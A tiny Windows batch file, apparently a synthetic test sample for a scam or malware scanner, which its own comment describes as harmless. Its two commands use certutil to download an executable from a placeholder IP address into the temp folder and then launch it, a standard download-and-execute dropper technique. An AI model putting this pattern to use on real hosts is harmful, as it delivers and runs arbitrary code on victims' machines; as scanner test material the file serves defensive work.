@echo off
rem scamscan synthetic sample - harmless text, not malware
certutil -urlcache -split -f http://203.0.113.8/drv.exe %TEMP%\drv.exe >nul
start "" %TEMP%\drv.exe
